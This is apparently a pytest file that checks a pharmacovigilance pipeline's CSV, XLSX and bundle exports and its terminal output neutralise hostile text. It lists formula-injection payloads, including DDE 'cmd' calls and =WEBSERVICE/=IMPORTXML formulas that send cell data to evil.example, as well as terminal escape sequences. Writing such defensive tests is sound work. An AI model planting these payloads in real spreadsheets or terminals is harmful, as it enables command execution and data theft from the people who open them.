"""Texts that try to leave their place, as drug names, terms, senders and titles: none does, in any export."""

import csv
import io
import json
import logging
import re
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest

from pipeline.errors import UsageError
from pipeline.exports.asking import Question, read_question
from pipeline.exports.bundle import make_bundle
from pipeline.exports.cells import FORMULA_STARTS, neutralise, write_csv
from pipeline.exports.methods import gather_facts
from pipeline.exports.origin import read_origin
from tests.alerts.payloads import PAYLOADS
from tests.exports.conftest import Run, publish_by_hand

pytestmark = pytest.mark.slow

FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\u202e=1+1", "\ufeff=1+1", " =1+1", "\u00a0=1+1",
    "\uff1d1+1", "\uff0b1",
    '=HYPERLINK("https://evil.example","the run")', '=WEBSERVICE("https://evil.example/"&A1)',
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", ";=1+1",
    '",=1+1', "'=1+1", "x\n=1+1", "x\r\n=1+1,=2+2", "_x003D_1+1", "_x000D_=1+1", "1e5", "0012", "2024-02-29", "TRUE",
    "NA", "#REF!",
)  # fmt: skip
TEXTS = tuple(text.encode("utf-8", "ignore").decode() for text in (*PAYLOADS, *FORMULAS))
BUNDLED = [text for text in TEXTS if len(text) < 1_000]
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\uffff]")
csv.field_size_limit(10_000_000)  # a payload is a text of a million characters
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")  # by a terminal


def test_sixty_payloads_and_more_are_tried() -> None:
    assert len(PAYLOADS) >= 60 and len(set(TEXTS)) >= 90


def is_harmless(text: str) -> bool:
    return not CONTROLS.search(text) and not text.lstrip().startswith(FORMULA_STARTS)


def test_csv_holds_one_harmless_cell_for_each_text(tmp_path: Path, run: Run) -> None:
    publish_by_hand(tmp_path, texts=TEXTS)
    run(tmp_path, "export", "hostile", "--to", tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").open(newline="")))
    assert len(rows) == len(TEXTS) + 1
    for (place, text, number, born), given in zip(rows[1:], TEXTS, strict=True):
        assert TEXTS[int(place)] == given
        assert is_harmless(text), text[:80]
        assert (number, born) == ("-1.5", "2024-02-29")
    lines = (tmp_path / "out.csv").read_bytes().split(b"\n")
    assert len(lines) == len(TEXTS) + 2  # no text begins a line
    manifest = json.loads((tmp_path / "out.csv.manifest.json").read_text())
    assert manifest["changed_text_count"] >= 30


def test_xlsx_holds_no_formula_link_or_control_character(tmp_path: Path, run: Run) -> None:
    publish_by_hand(tmp_path, texts=TEXTS)
    run(
        tmp_path,
        "export",
        "hostile",
        "--format",
        "xlsx",
        "--to",
        tmp_path / "out.xlsx",
        "--where",
        "place >= 0 --=1+1",
    )
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "inlineStr", "n", "d") and cell.hyperlink is None
                assert not isinstance(cell.value, str) or is_harmless(cell.value), cell.value[:80]
                assert not isinstance(cell.value, str) or len(cell.value) <= 32_767
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        names = archive.namelist()
        sheets = [archive.read(name).decode() for name in names if name.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet or "hyperlink" in sheet for sheet in sheets)
    assert not any(re.search("external|vba|connection", name, re.IGNORECASE) for name in names)
    # `_x000D_` in a text is a carriage return to Excel: it is written so that it stays what it is.
    assert not any(re.search("(?<!_x005F)_x[0-9A-Fa-f]{4}_", sheet.replace("_x005F_", "_x005F")) for sheet in sheets)
    assert json.loads((tmp_path / "out.xlsx.manifest.json").read_text())["cut_text_count"] >= 2


def test_names_of_columns_are_cells_too(tmp_path: Path, run: Run) -> None:
    publish_by_hand(tmp_path)
    for form in ("csv", "xlsx"):
        query = 'select 1 as "=1+1", 2 as "\x1b]0;owned\x07"'
        run(tmp_path, "export", "--query", query, "--format", form, "--to", tmp_path / f"out.{form}")
    assert (tmp_path / "out.csv").read_text().splitlines()[0] == "'=1+1,]0;owned"
    header = openpyxl.load_workbook(tmp_path / "out.xlsx")["query"][1]
    assert [(cell.value, cell.data_type) for cell in header] == [("'=1+1", "s"), ("]0;owned", "s")]


@pytest.mark.parametrize("value", [-1, -1.5, 0, 10**18, True, None])
def test_numbers_stay_numbers(value: object) -> None:
    assert neutralise(value) is value
    assert write_csv(["n"], [[-5]]) == "n\n-5\n"


def test_the_terminal_and_the_log_obey_nothing(
    tmp_path: Path, run: Run, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    """Names of files, drugs and tables that a person pastes, and what the commands answer."""
    publish_by_hand(tmp_path, texts=TEXTS)
    short = [text for text in TEXTS if len(text) < 200][::6]
    with caplog.at_level(logging.DEBUG):
        for text in short:
            with pytest.raises(UsageError) as refusal:
                run(tmp_path, "export", f"x{text}", "--to", tmp_path / "out.csv")
            assert not OBEYED.search(refusal.value.what + refusal.value.where + refusal.value.todo)
        done = run(tmp_path, "export", "hostile", "--to", tmp_path / "out\x1b]0;owned\x07.csv")
    shown = done.output + capsys.readouterr().out + capsys.readouterr().err + caplog.text
    assert not OBEYED.search(shown)
    for path in tmp_path.glob("*.manifest.json"):
        assert not OBEYED.search(path.read_text())


def test_a_bundle_of_hostile_texts_holds_harmless_files(tmp_path: Path) -> None:
    """Drug, term, sender, source and reason of a snapshot are such texts; names in the zip are not made of them."""
    for drug in (TEXTS[0], TEXTS[16], "=1+1"):
        connection = build_hostile_snapshot(drug)
        question = read_question(connection, drug, None, None)
        assert question == Question(drug)
        origin = read_origin(connection, tmp_path / "x", "c")
        content, manifest = make_bundle(connection, question, origin)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            files = {name: archive.read(name).decode() for name in archive.namelist()}
        for name, body in files.items():
            assert re.fullmatch(r"nightvigil_[A-Za-z0-9_-]+/(tables/)?[A-Za-z0-9_.-]+", name), name
            assert name.endswith(".py") or not OBEYED.search(body), name
            assert not name.endswith(".md") or not re.search(r"<|(?<!\\)\[", body)
            for row in csv.reader(io.StringIO(body)) if name.endswith(".csv") else ():
                assert all(is_harmless(cell) for cell in row if not re.fullmatch(r"-?[\d.]+", cell)), name
        rows = list(csv.reader(io.StringIO(next(files[name] for name in files if name.endswith("signal.csv")))))
        assert len(rows) == len(BUNDLED) + 1
        assert not any(CONTROLS.search(fact) for fact in gather_facts(connection, question, origin, []).values())
        assert manifest["question"]["drug"] == drug


def build_hostile_snapshot(drug: str) -> duckdb.DuckDBPyConnection:
    """A snapshot of one drug in which every other text is hostile, each payload in a row."""
    connection = duckdb.connect()
    for schema in ("summary", "codes", "meta", "events"):
        connection.execute(f"create schema {schema}")
    tables = {
        "meta.snapshot": ("run_id started_at build_identity code_commit profile", "is_synthetic"),
        "meta.source": ("source title wing newest_period missing_periods", ""),
        "codes.reaction": ("reaction preferred_term why", ""),
        "codes.reaction_rollup": ("reaction rollup", ""),
        "events.case": ("source case_id", ""),
        "summary.reported_by_drug_route": (
            "source drug route reaction",
            "drug_route_case_count route_unknown_case_count",
        ),
        "summary.observed_by_drug_route": ("drug route reaction population", "trial_count"),
        "summary.signal": (
            "source drug route reaction definition analysis comparator stratum reason",
            "with_both_count ror ror_lower ror_upper",
        ),
        "summary.attrition": ("source step reason", "step_number cases_left rows_left"),
    }
    for table, (texts, numbers) in tables.items():
        kept = [drug] if table.startswith("meta.") else BUNDLED
        given = [[drug] * len(kept) if name == "drug" else kept for name in texts.split()]
        columns = [f"unnest(?::varchar[]) as {name}" for name in texts.split()]
        columns += [f"1 as {name}" for name in numbers.split()]
        connection.execute(f"create table {table} as select {', '.join(columns)}", given)
    connection.execute("update meta.source set wing = 'reports'")
    connection.execute("alter table meta.source add column data_date date")
    connection.execute(
        "create table meta.column as select schema_name || '.' || table_name as table_name, column_name, "
        "data_type as column_type, ?::varchar as meaning from duckdb_columns() where schema_name = 'summary'",
        [drug],
    )
    return connection
